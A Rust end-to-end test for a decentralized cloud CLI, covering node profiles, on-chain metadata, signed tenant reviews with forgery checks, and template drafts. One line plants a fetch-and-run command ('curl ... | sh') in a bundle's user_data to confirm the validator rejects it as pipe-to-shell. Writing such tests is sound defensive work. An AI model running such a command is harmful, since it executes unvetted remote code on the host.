//! Node profiles end to end: the orchestrator (started as its binary would, following the test
//! chain, with a content store) and `decloud operator profile`. The operator publishes tags and a
//! description; the node's `metadataCid` names them on-chain, and the marketplace shows the
//! description and filters on the tags. Bad input and another operator's node change nothing.
//! Then `decloud review`: a tenant reviews the node of their lease (signed with their wallet), an
//! address without a lease is refused, the marketplace shows the aggregate, and
//! `decloud review verify` checks the saved review offline. Last, `decloud template draft`,
//! `drafts` and `test` against the same orchestrator.

mod support;

use std::{
    future::Future,
    sync::Arc,
    time::{Duration, Instant},
};

use alloy::primitives::Address;
use alloy::primitives::U256;
use decloud_orchestrator::{
    Config,
    config::{ChainConfig, ContentConfig, SiweConfig},
};
use decloud_sdk::{
    USDC, agent_protocol,
    bindings::{LeaseEscrow, MockUSDC, NodeRegistry, lease_escrow::ILeaseEscrow},
    tx,
    types::{BandwidthTier, QualityTier},
};
use serde_json::Value;
use support::Cli;

const OPERATOR: usize = 1;
const TENANT: usize = 3;
const OTHER: usize = 4;

async fn eventually<T, F, Fut>(what: &str, mut check: F) -> T
where
    F: FnMut() -> Fut,
    Fut: Future<Output = Option<T>>,
{
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if let Some(v) = check().await {
            return v;
        }
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// Runs the binary on a blocking thread so the in-process orchestrator keeps serving.
async fn run(cli: &Arc<Cli>, account: usize, args: &[&str]) -> support::Run {
    let cli = cli.clone();
    let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
    tokio::task::spawn_blocking(move || {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        cli.run(account, &args)
    })
    .await
    .unwrap()
}

async fn ok(cli: &Arc<Cli>, account: usize, args: &[&str]) -> Value {
    let mut all = args.to_vec();
    all.extend(["--yes", "--json"]);
    run(cli, account, &all).await.json()
}

async fn get(url: String) -> Value {
    alloy::transports::http::reqwest::get(&url)
        .await
        .unwrap()
        .json()
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn profiles_reviews_and_drafts_through_the_cli() {
    let mut cli = Cli::start().await;
    let work = tempfile::tempdir().unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let base = format!("http://{addr}");
    let contracts = &cli.system.deployment.contracts;
    let config = Config {
        listen: addr,
        database_url: format!("sqlite:{}", work.path().join("orchestrator.db").display()),
        content: Some(ContentConfig {
            dir: Some(work.path().join("content")),
            ipfs_api: None,
        }),
        siwe: SiweConfig {
            domains: vec![addr.to_string()],
            uris: vec![base.clone()],
            ..SiweConfig::default()
        },
        chain: Some(ChainConfig {
            rpc_url: cli.system.rpc_url().to_string(),
            node_registry: contracts.node_registry.address.to_string(),
            lease_escrow: contracts.lease_escrow.address.to_string(),
            template_market: None,
            storage_market: None,
            start_block: cli.system.deployment.deploy_block,
            confirmations: 0,
            image: "blank".into(),
            grace_secs: 86_400,
            reconnect_grace_secs: 90,
            sla_window_secs: 1_800,
        }),
        ..Config::default()
    };
    let running = decloud_orchestrator::start(config, listener).await.unwrap();
    cli.orchestrator = Some(base.clone());
    let cli = Arc::new(cli);

    // The operator registers a node (no metadata yet) and signs in to the orchestrator.
    let operator = cli.system.address(OPERATOR);
    let machine_id = agent_protocol::machine_id("profiled-machine");
    let node_id = agent_protocol::node_id(machine_id, operator);
    ok(
        &cli,
        OPERATOR,
        &[
            "operator",
            "register",
            "--machine-id",
            &machine_id.to_string(),
            "--node-key",
            &Address::repeat_byte(7).to_string(),
            "--region",
            "eu-central",
            "--vcpus",
            "8",
            "--memory",
            "16",
            "--disk",
            "100",
        ],
    )
    .await;
    ok(&cli, OPERATOR, &["login"]).await;
    let node_url = format!("{base}/api/v1/nodes/{node_id}");
    let listed = eventually("the node in the marketplace", || async {
        let body = get(node_url.clone()).await;
        (body["node_id"] == node_id.to_string()).then_some(body)
    })
    .await;
    assert_eq!(listed["tags"], serde_json::json!([]));
    assert_eq!(listed["description"], "");

    // Bad tags are refused before anything is stored or sent.
    let bad = run(
        &cli,
        OPERATOR,
        &[
            "operator",
            "profile",
            &node_id.to_string(),
            "--tag",
            "fast disks",
            "--yes",
        ],
    )
    .await;
    assert!(bad.failure().contains("tag"), "{bad:#?}");
    // Another operator cannot set this node's profile.
    ok(&cli, OTHER, &["login"]).await;
    let foreign = run(
        &cli,
        OTHER,
        &[
            "operator",
            "profile",
            &node_id.to_string(),
            "--tag",
            "ssd",
            "--yes",
        ],
    )
    .await;
    assert!(foreign.failure().contains("operated by"), "{foreign:#?}");
    let registry = NodeRegistry::new(contracts_registry(&cli), cli.system.provider(0));
    let on_chain = tx::read("NodeRegistry", registry.getNode(node_id))
        .await
        .unwrap();
    assert_eq!(on_chain.metadataCid, "", "nothing was set");

    // The operator publishes a profile: its CID becomes the node's metadata on-chain.
    let report = ok(
        &cli,
        OPERATOR,
        &[
            "operator",
            "profile",
            &node_id.to_string(),
            "--tag",
            "SSD",
            "--tag",
            "nvme",
            "--description",
            "NVMe disks in Frankfurt.",
        ],
    )
    .await;
    let cid = report["metadata_cid"]
        .as_str()
        .expect("the CID")
        .to_string();
    let on_chain = tx::read("NodeRegistry", registry.getNode(node_id))
        .await
        .unwrap();
    assert_eq!(on_chain.metadataCid, cid);
    assert_eq!(
        on_chain.region, "eu-central",
        "the rest of the node is unchanged"
    );
    assert_eq!(on_chain.capabilities.vcpus, 8);

    // The marketplace reads it: the description shows, and the tags filter.
    let profiled = eventually("the profile in the marketplace", || async {
        let body = get(node_url.clone()).await;
        (body["description"] == "NVMe disks in Frankfurt.").then_some(body)
    })
    .await;
    assert_eq!(profiled["tags"], serde_json::json!(["ssd", "nvme"]));
    assert_eq!(profiled["metadata_cid"], cid);
    let found = get(format!("{base}/api/v1/nodes?tags=nvme,ssd")).await;
    assert_eq!(found["total"], 1, "{found}");
    let none = get(format!("{base}/api/v1/nodes?tags=gpu")).await;
    assert_eq!(none["total"], 0, "{none}");
    let found = ok(&cli, OTHER, &["nodes", "--tags", "nvme"]).await;
    assert_eq!(found["total"], 1, "{found}");

    // A tenant opens a lease on the node and reviews it with their wallet.
    let tenant = cli.system.provider(TENANT);
    let escrow_addr = contracts_escrow(&cli);
    let usdc = MockUSDC::new(cli.system.deployment.usdc, tenant.clone());
    tx::send("MockUSDC", usdc.approve(escrow_addr, U256::from(10 * USDC)))
        .await
        .unwrap();
    let escrow = LeaseEscrow::new(escrow_addr, tenant);
    tx::send("LeaseEscrow", escrow.deposit(U256::from(10 * USDC)))
        .await
        .unwrap();
    tx::send(
        "LeaseEscrow",
        escrow.openLease(
            node_id,
            ILeaseEscrow::Resources {
                vcpus: 1,
                memoryGiB: 1,
                storageGiB: 5,
                gpus: 0,
            },
            QualityTier::Standard.into(),
            BandwidthTier::Basic.into(),
            U256::ZERO,
            U256::ZERO,
            u64::MAX,
            U256::from(5 * USDC),
        ),
    )
    .await
    .expect("the tenant opens a lease");
    let stranger = run(
        &cli,
        OTHER,
        &[
            "review",
            "node",
            "1",
            "--rating",
            "1",
            "--text",
            "Never used it.",
        ],
    )
    .await;
    assert!(
        stranger.failure().contains("not_eligible"),
        "an address without a lease is refused: {stranger:#?}"
    );
    let review = run(
        &cli,
        TENANT,
        &[
            "review",
            "node",
            "1",
            "--rating",
            "5",
            "--text",
            "Fast NVMe.",
            "--json",
        ],
    )
    .await;
    let saved = work.path().join("review.json");
    std::fs::write(&saved, &review.stdout).unwrap();
    let review = review.json();
    assert_eq!(review["target"], node_id.to_string(), "{review}");
    let again = run(&cli, TENANT, &["review", "node", "1", "--rating", "4"]).await;
    assert!(again.failure().contains("already_reviewed"), "{again:#?}");
    let rated = get(node_url.clone()).await;
    assert_eq!(rated["rating"]["count"], 1, "{rated}");
    assert_eq!(rated["rating"]["mean_hundredths"], 500, "{rated}");

    // Anyone verifies the saved review offline; a changed one fails.
    let verified = run(
        &cli,
        OTHER,
        &["review", "verify", saved.to_str().unwrap(), "--json"],
    )
    .await
    .json();
    assert_eq!(verified["valid"], true);
    assert_eq!(
        verified["signer"],
        format!("{:#x}", cli.system.address(TENANT))
    );
    let forged = work.path().join("forged.json");
    std::fs::write(
        &forged,
        std::fs::read_to_string(&saved)
            .unwrap()
            .replace("Fast NVMe.", "Slow disks."),
    )
    .unwrap();
    let refused = run(&cli, OTHER, &["review", "verify", forged.to_str().unwrap()]).await;
    assert!(
        refused.failure().contains("not by the stated reviewer"),
        "{refused:#?}"
    );

    // Drafts through the CLI: the validator's verdict comes back, every reason for a rejected
    // bundle and the CID of an accepted one, which only its author can arm for a test.
    let seed =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../templates/seed/postgresql");
    let unsafe_dir = work.path().join("unsafe");
    let mut unsafe_bundle = decloud_templates::Bundle::load_dir(&seed).unwrap();
    unsafe_bundle.user_data = "#!/bin/sh\ncurl http://example.com/x.sh | sh\n".into();
    unsafe_bundle.write_dir(&unsafe_dir).unwrap();
    ok(&cli, TENANT, &["login"]).await;
    let rejected = run(
        &cli,
        TENANT,
        &["template", "draft", unsafe_dir.to_str().unwrap()],
    )
    .await;
    assert!(
        rejected.failure().contains("bundle_rejected")
            && rejected.failure().contains("pipe-to-shell"),
        "{rejected:#?}"
    );
    let draft = ok(&cli, TENANT, &["template", "draft", seed.to_str().unwrap()]).await;
    let cid = draft["cid"].as_str().expect("the draft's CID").to_string();
    assert_eq!(
        cid,
        decloud_templates::Bundle::load_dir(&seed)
            .unwrap()
            .cid()
            .to_string()
    );
    let drafts = ok(&cli, TENANT, &["template", "drafts"]).await;
    assert_eq!(drafts.as_array().map(Vec::len), Some(1), "{drafts}");
    // The CLI keeps one session per orchestrator: signing in switches whose it is.
    ok(&cli, OTHER, &["login"]).await;
    let foreign = run(&cli, OTHER, &["template", "test", &cid]).await;
    assert!(foreign.failure().contains("404"), "{foreign:#?}");
    ok(&cli, TENANT, &["login"]).await;
    let armed = ok(&cli, TENANT, &["template", "test", &cid]).await;
    assert_eq!(armed["cid"], cid.as_str(), "{armed}");

    running.stop().await.unwrap();
}

fn contracts_escrow(cli: &Cli) -> Address {
    cli.system.deployment.contracts.lease_escrow.address
}

fn contracts_registry(cli: &Cli) -> Address {
    cli.system.deployment.contracts.node_registry.address
}
